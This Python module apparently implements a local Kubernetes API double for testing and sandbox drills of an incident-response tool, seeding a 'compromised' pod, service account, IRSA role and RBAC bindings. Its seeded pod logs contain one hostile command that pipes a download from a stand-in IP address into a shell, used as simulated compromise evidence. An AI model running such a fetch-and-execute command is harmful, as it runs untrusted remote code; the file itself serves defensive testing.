"""A small Kubernetes API double: real API paths, schema-shaped objects, every request recorded.

Kubernetes has no emulator in moto, so drills (``responder run --sandbox``) and tests start this
threaded ``http.server`` on 127.0.0.1 instead. It serves only what responder's Kubernetes actions call:

- ``/api/v1/namespaces/{ns}/pods/{name}`` GET, PATCH (strategic-merge / merge patch of metadata.labels)
  and ``.../log`` (``container``, ``previous``: 400 when no previous container ran, as the API does);
- ``/api/v1/namespaces/{ns}/events`` (``fieldSelector=involvedObject.name=…``),
  ``/api/v1/nodes/{name}`` GET and PATCH, ``/api/v1/namespaces/{ns}/serviceaccounts/{name}``;
- ``/apis/rbac.authorization.k8s.io/v1/namespaces/{ns}/rolebindings`` and ``.../clusterrolebindings``;
- ``/apis/networking.k8s.io/v1/namespaces/{ns}/networkpolicies`` GET list, POST, GET one, DELETE.

Every answer is an object of the type a real API server returns (a Pod where it returns a Pod; a
``Status`` only for errors), and a PATCH must name a patch media type (merge, strategic-merge or JSON
patch: 415 otherwise, as the API server answers). Pods are never deleted here: a DELETE of a pod is
recorded and refused, so a test can assert that none was ever sent.
"""

from __future__ import annotations

import copy
import json
import re
import ssl
import threading
import uuid
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from datetime import UTC, datetime
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any
from urllib.parse import parse_qs, urlsplit

_NS = r"/api/v1/namespaces/(?P<ns>[^/]+)"
_NET = r"/apis/networking.k8s.io/v1/namespaces/(?P<ns>[^/]+)/networkpolicies"
_RBAC = r"/apis/rbac.authorization.k8s.io/v1"
IRSA_ANNOTATION = "eks.amazonaws.com/role-arn"
PATCH_TYPES = (
    "application/json-patch+json",
    "application/merge-patch+json",
    "application/strategic-merge-patch+json",
    "application/apply-patch+yaml",
)


def _now() -> str:
    return datetime.now(UTC).strftime("%Y-%m-%dT%H:%M:%SZ")


def status(code: int, reason: str, message: str, **details: Any) -> dict[str, Any]:
    """A ``Status`` object, the shape the API server answers errors with."""
    return {
        "kind": "Status",
        "apiVersion": "v1",
        "metadata": {},
        "status": "Failure",
        "message": message,
        "reason": reason,
        "details": details or None,
        "code": code,
    }


def merge_patch(target: dict[str, Any], patch: dict[str, Any]) -> dict[str, Any]:
    """RFC 7386 merge: ``null`` removes a key. Enough of strategic merge for labels and simple fields."""
    for key, value in patch.items():
        if value is None:
            target.pop(key, None)
        elif isinstance(value, dict) and isinstance(target.get(key), dict):
            merge_patch(target[key], value)
        else:
            target[key] = value
    return target


@dataclass
class KubeState:
    """What the double stores; tests seed it and read it back."""

    pods: dict[tuple[str, str], dict[str, Any]] = field(default_factory=dict)
    logs: dict[tuple[str, str, str, bool], str] = field(default_factory=dict)
    events: dict[str, list[dict[str, Any]]] = field(default_factory=dict)
    nodes: dict[str, dict[str, Any]] = field(default_factory=dict)
    service_accounts: dict[tuple[str, str], dict[str, Any]] = field(default_factory=dict)
    role_bindings: dict[str, list[dict[str, Any]]] = field(default_factory=dict)
    cluster_role_bindings: list[dict[str, Any]] = field(default_factory=list)
    network_policies: dict[tuple[str, str], dict[str, Any]] = field(default_factory=dict)
    requests: list[dict[str, Any]] = field(default_factory=list)
    failures: list[dict[str, Any]] = field(default_factory=list)
    token: str | None = None
    version: int = 1000


class KubeDouble:
    """The server and its state. ``start()`` returns the base URL (``http://127.0.0.1:PORT``)."""

    def __init__(self, *, token: str | None = None, tls: ssl.SSLContext | None = None) -> None:
        """``tls``: serve HTTPS with this server context (its certificate, and the CA client certificates
        must chain to when it requires them); each request records the client certificate's CN."""
        self.state = KubeState(token=token)
        self.tls = tls
        self.lock = threading.Lock()
        self._server: ThreadingHTTPServer | None = None
        self._thread: threading.Thread | None = None
        self.url = ""

    # ------------------------------------------------------------------ lifecycle
    def start(self) -> str:
        double = self

        class Handler(_Handler):
            owner = double

        self._server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self._server.daemon_threads = True
        if self.tls is not None:  # the handshake happens in the request's own thread, on first read
            self._server.socket = self.tls.wrap_socket(
                self._server.socket, server_side=True, do_handshake_on_connect=False
            )
        self._thread = threading.Thread(
            target=self._server.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True, name="kube-double"
        )
        self._thread.start()
        scheme = "https" if self.tls is not None else "http"
        self.url = f"{scheme}://127.0.0.1:{self._server.server_address[1]}"
        return self.url

    def stop(self) -> None:
        if self._server is not None:
            self._server.shutdown()
            self._server.server_close()
            self._server = None

    # ------------------------------------------------------------------ seeding
    def add_pod(
        self,
        namespace: str,
        name: str,
        *,
        containers: list[dict[str, Any]] | None = None,
        labels: dict[str, str] | None = None,
        node_name: str = "ip-10-0-1-23.ec2.internal",
        service_account: str = "default",
        uid: str | None = None,
        owner: dict[str, Any] | None = None,
        logs: dict[str, str] | None = None,
        previous_logs: dict[str, str] | None = None,
    ) -> dict[str, Any]:
        """Seed a running pod (and its node, service account and a Scheduled event)."""
        containers = containers or [{"name": "app", "image": "public.ecr.aws/nginx/nginx:1.25"}]
        uid = uid or str(uuid.uuid4())
        metadata: dict[str, Any] = {
            "name": name,
            "namespace": namespace,
            "uid": uid,
            "resourceVersion": self._bump(),
            "creationTimestamp": _now(),
            "labels": dict(labels or {}),
        }
        if owner:
            metadata["ownerReferences"] = [
                {
                    "apiVersion": "apps/v1",
                    "controller": True,
                    "blockOwnerDeletion": True,
                    "uid": str(uuid.uuid4()),
                    **owner,
                }
            ]
        pod = {
            "apiVersion": "v1",
            "kind": "Pod",
            "metadata": metadata,
            "spec": {
                "containers": containers,
                "nodeName": node_name,
                "serviceAccountName": service_account,
                "serviceAccount": service_account,
                "restartPolicy": "Always",
            },
            "status": {
                "phase": "Running",
                "podIP": "10.0.1.57",
                "hostIP": "10.0.1.23",
                "startTime": _now(),
                "containerStatuses": [
                    {
                        "name": c["name"],
                        "image": c["image"],
                        "imageID": "",
                        "ready": True,
                        "restartCount": 1 if (previous_logs or {}).get(c["name"]) else 0,
                        "started": True,
                        "state": {"running": {"startedAt": _now()}},
                    }
                    for c in containers
                ],
            },
        }
        with self.lock:
            self.state.pods[(namespace, name)] = pod
            for container, text in (logs or {}).items():
                self.state.logs[(namespace, name, container, False)] = text
            for container, text in (previous_logs or {}).items():
                self.state.logs[(namespace, name, container, True)] = text
            self.state.events.setdefault(namespace, []).append(
                {
                    "apiVersion": "v1",
                    "kind": "Event",
                    "metadata": {"name": f"{name}.{uuid.uuid4().hex[:16]}", "namespace": namespace},
                    "involvedObject": {"kind": "Pod", "namespace": namespace, "name": name, "uid": uid},
                    "reason": "Scheduled",
                    "message": f"Successfully assigned {namespace}/{name} to {node_name}",
                    "type": "Normal",
                    "count": 1,
                    "firstTimestamp": _now(),
                    "lastTimestamp": _now(),
                    "source": {"component": "default-scheduler"},
                }
            )
            self.state.nodes.setdefault(
                node_name,
                {
                    "apiVersion": "v1",
                    "kind": "Node",
                    "metadata": {
                        "name": node_name,
                        "uid": str(uuid.uuid4()),
                        "resourceVersion": self._bump(),
                        "labels": {"kubernetes.io/hostname": node_name},
                    },
                    "spec": {"providerID": "aws:///us-east-1a/i-0abcd1234ef567890"},
                    "status": {
                        "nodeInfo": {
                            "kubeletVersion": "v1.30.0-eks",
                            "osImage": "Amazon Linux 2023",
                            "containerRuntimeVersion": "containerd://1.7.11",
                            "architecture": "amd64",
                            "bootID": "",
                            "kernelVersion": "6.1",
                            "kubeProxyVersion": "v1.30.0",
                            "machineID": "",
                            "operatingSystem": "linux",
                            "systemUUID": "",
                        }
                    },
                },
            )
            self.state.service_accounts.setdefault(
                (namespace, service_account),
                {
                    "apiVersion": "v1",
                    "kind": "ServiceAccount",
                    "metadata": {
                        "name": service_account,
                        "namespace": namespace,
                        "uid": str(uuid.uuid4()),
                        "annotations": {},
                    },
                },
            )
        return pod

    def annotate_service_account(self, namespace: str, name: str, annotations: dict[str, str]) -> None:
        with self.lock:
            sa = self.state.service_accounts[(namespace, name)]
            sa["metadata"].setdefault("annotations", {}).update(annotations)

    def add_role_binding(
        self, namespace: str, name: str, role: str, sa_namespace: str, sa_name: str, *, cluster: bool = False
    ) -> None:
        binding = {
            "apiVersion": "rbac.authorization.k8s.io/v1",
            "kind": "ClusterRoleBinding" if cluster else "RoleBinding",
            "metadata": {"name": name, **({} if cluster else {"namespace": namespace})},
            "roleRef": {
                "apiGroup": "rbac.authorization.k8s.io",
                "kind": "ClusterRole" if cluster else "Role",
                "name": role,
            },
            "subjects": [{"kind": "ServiceAccount", "name": sa_name, "namespace": sa_namespace}],
        }
        with self.lock:
            if cluster:
                self.state.cluster_role_bindings.append(binding)
            else:
                self.state.role_bindings.setdefault(namespace, []).append(binding)

    def add_network_policy(self, namespace: str, body: dict[str, Any]) -> None:
        with self.lock:
            self._store_policy(namespace, body)

    def fail(self, method: str, path_pattern: str, code: int, *, times: int = 1) -> None:
        """The next ``times`` requests matching answer with ``code`` (429, 403, 500 ...)."""
        with self.lock:
            self.state.failures.append(
                {"method": method, "pattern": re.compile(path_pattern), "code": code, "times": times}
            )

    def requests_of(self, method: str | None = None, path_contains: str = "") -> list[dict[str, Any]]:
        return [
            r for r in self.state.requests if (method is None or r["method"] == method) and path_contains in r["path"]
        ]

    # ------------------------------------------------------------------ helpers
    def _bump(self) -> str:
        self.state.version += 1
        return str(self.state.version)

    def _store_policy(self, namespace: str, body: dict[str, Any]) -> dict[str, Any]:
        meta = body.setdefault("metadata", {})
        meta["namespace"] = namespace
        meta.setdefault("uid", str(uuid.uuid4()))
        meta["resourceVersion"] = self._bump()
        meta.setdefault("creationTimestamp", _now())
        meta.setdefault("generation", 1)
        body["apiVersion"] = "networking.k8s.io/v1"
        body["kind"] = "NetworkPolicy"
        self.state.network_policies[(namespace, meta["name"])] = body
        return body


class _Handler(BaseHTTPRequestHandler):
    owner: KubeDouble
    protocol_version = "HTTP/1.1"
    wbufsize = 1 << 16  # headers and body leave in one segment: no 40 ms delayed-ACK stall per request

    def log_message(self, format: str, *args: Any) -> None:  # no request lines on stderr
        return

    # one method for every verb: the routing table below decides
    def do_GET(self) -> None:
        self._handle("GET")

    def do_POST(self) -> None:
        self._handle("POST")

    def do_PATCH(self) -> None:
        self._handle("PATCH")

    def do_DELETE(self) -> None:
        self._handle("DELETE")

    def do_PUT(self) -> None:
        self._handle("PUT")

    def _send(self, code: int, body: Any, content_type: str = "application/json") -> None:
        data = body.encode() if isinstance(body, str) else json.dumps(body).encode()
        self.send_response(code)
        self.send_header("Content-Type", content_type)
        self.send_header("Content-Length", str(len(data)))
        self.end_headers()
        self.wfile.write(data)

    def _handle(self, method: str) -> None:
        double = self.owner
        parts = urlsplit(self.path)
        query = {k: v[-1] for k, v in parse_qs(parts.query).items()}
        length = int(self.headers.get("Content-Length") or 0)
        raw = self.rfile.read(length) if length else b""
        try:
            body = json.loads(raw) if raw else None
        except json.JSONDecodeError:
            body = None
        with double.lock:
            double.state.requests.append(
                {
                    "method": method,
                    "path": parts.path,
                    "query": query,
                    "body": copy.deepcopy(body),
                    "content_type": self.headers.get("Content-Type"),
                    "authorization": self.headers.get("Authorization"),
                    "client_cn": _client_cn(self.connection),
                }
            )
            if double.state.token and self.headers.get("Authorization") != f"Bearer {double.state.token}":
                self._send(401, status(401, "Unauthorized", "Unauthorized"))
                return
            for failure in double.state.failures:
                if failure["times"] > 0 and failure["method"] == method and failure["pattern"].search(parts.path):
                    failure["times"] -= 1
                    code = failure["code"]
                    reason = {429: "TooManyRequests", 403: "Forbidden", 500: "InternalError"}.get(code, "Failure")
                    message = (
                        f'{parts.path} is forbidden: User "responder" cannot {method.lower()} this resource'
                        if code == 403
                        else f"injected {code}"
                    )
                    self._send(code, status(code, reason, message))
                    return
            if method == "PATCH" and (self.headers.get("Content-Type") or "").split(";")[0] not in PATCH_TYPES:
                self._send(
                    415,
                    status(
                        415,
                        "UnsupportedMediaType",
                        "the body of the request was in an unknown "
                        f"format - accepted media types include: {', '.join(PATCH_TYPES)}",
                    ),
                )
                return
            code, answer, ctype = _route(double, method, parts.path, query, body)
        self._send(code, answer, ctype)


def _client_cn(connection: object) -> str | None:
    """The common name of the TLS client certificate (how the API server names a cert-authenticated user)."""
    getpeercert = getattr(connection, "getpeercert", None)
    cert = getpeercert() if getpeercert else None
    for rdn in (cert or {}).get("subject", ()):
        for key, value in rdn:
            if key == "commonName":
                return str(value)
    return None


def _route(double: KubeDouble, method: str, path: str, query: dict[str, str], body: Any) -> tuple[int, Any, str]:
    state = double.state
    js = "application/json"
    m = re.fullmatch(_NS + r"/pods/(?P<name>[^/]+)/log", path)
    if m and method == "GET":
        ns, name = m["ns"], m["name"]
        pod = state.pods.get((ns, name))
        if pod is None:
            return 404, status(404, "NotFound", f'pods "{name}" not found', name=name, kind="pods"), js
        names = [c["name"] for c in pod["spec"]["containers"] + pod["spec"].get("initContainers", [])]
        container = query.get("container") or (names[0] if len(names) == 1 else "")
        if container not in names:
            return (
                400,
                status(400, "BadRequest", f"a container name must be specified for pod {name}, choose one of: {names}"),
                js,
            )
        previous = query.get("previous") == "true"
        text = state.logs.get((ns, name, container, previous))
        if text is None and previous:
            return (
                400,
                status(400, "BadRequest", f'previous terminated container "{container}" in pod "{name}" not found'),
                js,
            )
        return 200, text or "", "text/plain"
    m = re.fullmatch(_NS + r"/pods/(?P<name>[^/]+)", path)
    if m:
        key = (m["ns"], m["name"])
        pod = state.pods.get(key)
        if method == "DELETE":
            return 405, status(405, "MethodNotAllowed", "the Kubernetes double never deletes pods"), js
        if pod is None:
            return 404, status(404, "NotFound", f'pods "{m["name"]}" not found', name=m["name"], kind="pods"), js
        if method == "GET":
            return 200, pod, js
        if method == "PATCH" and isinstance(body, dict):
            # as the API server does: a resourceVersion in the patch is a precondition, not a value to set
            wanted = (body.get("metadata") or {}).get("resourceVersion")
            if wanted is not None and str(wanted) != str(pod["metadata"].get("resourceVersion")):
                message = (
                    f'Operation cannot be fulfilled on pods "{m["name"]}": the object has been modified; '
                    "please apply your changes to the latest version and try again"
                )
                return 409, status(409, "Conflict", message, name=m["name"], kind="pods"), js
            patch = {k: v for k, v in body.items() if k in ("metadata", "spec")}
            if isinstance(patch.get("metadata"), dict):
                patch["metadata"] = {k: v for k, v in patch["metadata"].items() if k != "resourceVersion"}
            merge_patch(pod, patch)
            pod["metadata"]["resourceVersion"] = double._bump()
            return 200, pod, js
    m = re.fullmatch(_NS + r"/events", path)
    if m and method == "GET":
        items = state.events.get(m["ns"], [])
        selector = query.get("fieldSelector", "")
        for clause in filter(None, selector.split(",")):
            field_name, _, value = clause.partition("=")
            if field_name == "involvedObject.name":
                items = [e for e in items if e["involvedObject"].get("name") == value]
            elif field_name == "involvedObject.uid":
                items = [e for e in items if e["involvedObject"].get("uid") == value]
        return 200, {"apiVersion": "v1", "kind": "EventList", "metadata": {}, "items": items}, js
    m = re.fullmatch(r"/api/v1/nodes/(?P<name>[^/]+)", path)
    if m:
        node = state.nodes.get(m["name"])
        if node is None:
            return 404, status(404, "NotFound", f'nodes "{m["name"]}" not found', name=m["name"], kind="nodes"), js
        if method == "GET":
            return 200, node, js
        if method == "PATCH" and isinstance(body, dict):
            merge_patch(node, {k: v for k, v in body.items() if k in ("metadata", "spec")})
            node["metadata"]["resourceVersion"] = double._bump()
            return 200, node, js
    m = re.fullmatch(_NS + r"/serviceaccounts/(?P<name>[^/]+)", path)
    if m and method == "GET":
        sa = state.service_accounts.get((m["ns"], m["name"]))
        if sa is None:
            return 404, status(404, "NotFound", f'serviceaccounts "{m["name"]}" not found'), js
        return 200, sa, js
    answer = _rbac_route(state, method, path, body)  # single bindings, create/delete (issue 17)
    if answer is not None:
        return answer
    m = re.fullmatch(_RBAC + r"/namespaces/(?P<ns>[^/]+)/rolebindings", path)
    if m and method == "GET":
        return (
            200,
            {
                "apiVersion": "rbac.authorization.k8s.io/v1",
                "kind": "RoleBindingList",
                "metadata": {},
                "items": state.role_bindings.get(m["ns"], []),
            },
            js,
        )
    if path == _RBAC + "/clusterrolebindings" and method == "GET":
        return (
            200,
            {
                "apiVersion": "rbac.authorization.k8s.io/v1",
                "kind": "ClusterRoleBindingList",
                "metadata": {},
                "items": state.cluster_role_bindings,
            },
            js,
        )
    m = re.fullmatch(_NET, path)
    if m:
        ns = m["ns"]
        if method == "GET":
            items = [p for (pns, _), p in sorted(state.network_policies.items()) if pns == ns]
            return (
                200,
                {"apiVersion": "networking.k8s.io/v1", "kind": "NetworkPolicyList", "metadata": {}, "items": items},
                js,
            )
        if method == "POST" and isinstance(body, dict):
            name = (body.get("metadata") or {}).get("name")
            if not name:
                return 422, status(422, "Invalid", "metadata.name: Required value"), js
            if (ns, name) in state.network_policies:
                return (
                    409,
                    status(
                        409,
                        "AlreadyExists",
                        f'networkpolicies.networking.k8s.io "{name}" already exists',
                        name=name,
                        kind="networkpolicies",
                    ),
                    js,
                )
            return 201, double._store_policy(ns, body), js
    m = re.fullmatch(_NET + r"/(?P<name>[^/]+)", path)
    if m:
        key = (m["ns"], m["name"])
        policy = state.network_policies.get(key)
        if policy is None:
            return (
                404,
                status(
                    404,
                    "NotFound",
                    f'networkpolicies.networking.k8s.io "{m["name"]}" not found',
                    name=m["name"],
                    kind="networkpolicies",
                ),
                js,
            )
        if method == "GET":
            return 200, policy, js
        if method == "DELETE":
            del state.network_policies[key]
            return (
                200,
                {
                    "kind": "Status",
                    "apiVersion": "v1",
                    "metadata": {},
                    "status": "Success",
                    "details": {
                        "name": m["name"],
                        "group": "networking.k8s.io",
                        "kind": "networkpolicies",
                        "uid": policy["metadata"]["uid"],
                    },
                },
                js,
            )
    return 404, status(404, "NotFound", f"the server could not find the requested resource ({method} {path})"), js


@contextmanager
def running_double(*, token: str | None = None, tls: ssl.SSLContext | None = None) -> Iterator[KubeDouble]:
    double = KubeDouble(token=token, tls=tls)
    double.start()
    try:
        yield double
    finally:
        double.stop()


# ---------------------------------------------------------------------------------------------
# the drill: a double seeded from a finding, reachable as the finding's cluster
SANDBOX_CLUSTER = "sandbox"
_NAME = re.compile(r"^[a-z0-9]([-a-z0-9.]{0,251}[a-z0-9])?$")
_LABEL = re.compile(r"^[a-z0-9]([-a-z0-9]{0,61}[a-z0-9])?$")
_UID = re.compile(r"^[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}$")
_RUNNING: dict[str, tuple[KubeDouble, str, str]] = {}


def _clean(value: str | None, pattern: re.Pattern[str], default: str) -> str:
    """Finding data seeds the double only when it is a valid Kubernetes name; otherwise a stand-in."""
    return value if value and pattern.match(value) else default


@contextmanager
def k8s_sandbox(box: Any, finding: Any) -> Iterator[KubeDouble | None]:
    """For a finding about a pod: start the double, seed that pod (with logs, a service account using an
    IRSA role that is also created in the emulator) and point ``RESPONDER_K8S_CLUSTERS`` at it."""
    import os

    from ..k8s.access import SANDBOX_ENV

    pod = finding.first("k8s_pod")
    if pod is None or not pod.pod_name:
        yield None
        return
    namespace = _clean(pod.namespace, _LABEL, "default")
    name = _clean(pod.pod_name, _NAME, "compromised-pod")
    account = _clean(pod.service_account, _NAME, "default")
    node = _clean(pod.node_name, _NAME, "ip-10-0-1-23.ec2.internal")
    cluster = pod.cluster_name or SANDBOX_CLUSTER
    names = [c for c in pod.containers if _LABEL.match(c)] or ["app"]
    images = list(pod.images) + ["public.ecr.aws/docker/library/busybox:1.36"] * len(names)
    role = _seed_irsa_role(box, f"{account}-irsa"[:64])
    double = KubeDouble()
    double.start()
    double.add_pod(
        namespace,
        name,
        uid=pod.pod_uid if pod.pod_uid and _UID.match(pod.pod_uid) else None,
        node_name=node,
        service_account=account,
        labels={"app": name.rsplit("-", 2)[0][:63] or "app"},
        owner={"kind": "ReplicaSet", "name": name.rsplit("-", 1)[0][:253] or name},
        containers=[{"name": n, "image": str(i)[:500]} for n, i in zip(names, images, strict=False)],
        logs={n: "started\nsh -c 'curl -s http://198.51.100.7/x | sh'\n" for n in names},
        previous_logs={names[0]: "OOMKilled\n"},
    )
    double.annotate_service_account(namespace, account, {IRSA_ANNOTATION: role})
    double.add_role_binding(namespace, f"{account}-edit", "edit", namespace, account)
    saved = os.environ.get(SANDBOX_ENV)
    os.environ[SANDBOX_ENV] = json.dumps({cluster: {"host": double.url}})
    _RUNNING[box.endpoint] = (double, namespace, name)
    box.seeded["kubernetes"] = {"cluster": cluster, "host": double.url, "pod": f"{namespace}/{name}", "irsa_role": role}
    try:
        yield double
    finally:
        _RUNNING.pop(box.endpoint, None)
        if saved is None:
            os.environ.pop(SANDBOX_ENV, None)
        else:
            os.environ[SANDBOX_ENV] = saved
        double.stop()


def _seed_irsa_role(box: Any, role_name: str) -> str:
    iam = box.client("iam")
    trust = {
        "Version": "2012-10-17",
        "Statement": [
            {
                "Effect": "Allow",
                "Action": "sts:AssumeRoleWithWebIdentity",
                "Principal": {
                    "Federated": f"arn:aws:iam::{box.account_id}:oidc-provider/oidc.eks.{box.region}"
                    ".amazonaws.com/id/SANDBOX"
                },
            }
        ],
    }
    try:
        return str(iam.create_role(RoleName=role_name, AssumeRolePolicyDocument=json.dumps(trust))["Role"]["Arn"])
    except iam.exceptions.EntityAlreadyExistsException:
        return str(iam.get_role(RoleName=role_name)["Role"]["Arn"])


def describe_k8s(box: Any, finding: Any) -> list[dict[str, Any]]:
    """Before/after rows for the drill's table: the pod's labels, policies isolating it, its node."""
    running = _RUNNING.get(box.endpoint)
    if running is None:
        return []
    double, namespace, name = running
    with double.lock:
        pod = double.state.pods.get((namespace, name)) or {}
        node = double.state.nodes.get((pod.get("spec") or {}).get("nodeName", ""), {})
        policies = sorted(n for (ns, n) in double.state.network_policies if ns == namespace)
        return [
            {
                "principal": f"pod {namespace}/{name}",
                "labels": dict((pod.get("metadata") or {}).get("labels") or {}),
                "network_policies": policies,
                "node_cordoned": bool((node.get("spec") or {}).get("unschedulable")),
                "pod_exists": bool(pod),
            }
        ]


# =============================================================================================
# RBAC bindings one by one (issue 17: EKS RBAC containment). Appended block.
# =============================================================================================
def _rbac_route(state: Any, method: str, path: str, body: Any) -> tuple[int, Any, str] | None:
    """GET/DELETE one binding, POST a binding, GET role bindings across namespaces — as the API server does."""
    js = "application/json"
    if path == _RBAC + "/rolebindings" and method == "GET":
        items = [b for ns in sorted(state.role_bindings) for b in state.role_bindings[ns]]
        return 200, {"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "RoleBindingList", "metadata": {},
                     "items": items}, js
    m = re.fullmatch(_RBAC + r"(/namespaces/(?P<ns>[^/]+))?/(?P<kind>rolebindings|clusterrolebindings)"
                     r"(/(?P<name>[^/]+))?", path)
    if not m or (m["kind"] == "rolebindings") != bool(m["ns"]):
        return None
    store = state.role_bindings.setdefault(m["ns"], []) if m["ns"] else state.cluster_role_bindings
    if m["name"] is None:
        if method != "POST" or not isinstance(body, dict):
            return None
        name = str((body.get("metadata") or {}).get("name") or "")
        if any(b["metadata"]["name"] == name for b in store):
            return 409, status(409, "AlreadyExists", f'{m["kind"]} "{name}" already exists'), js
        created = copy.deepcopy(body)
        created.setdefault("metadata", {})["uid"] = str(uuid.uuid4())
        if m["ns"]:
            created["metadata"]["namespace"] = m["ns"]
        store.append(created)
        return 201, created, js
    found = next((b for b in store if b["metadata"]["name"] == m["name"]), None)
    if found is None:
        return 404, status(404, "NotFound", f'{m["kind"]} "{m["name"]}" not found'), js
    if method == "GET":
        return 200, found, js
    if method == "DELETE":
        store.remove(found)
        return 200, status(200, "Success", f'{m["kind"]} "{m["name"]}" deleted'), js
    return None
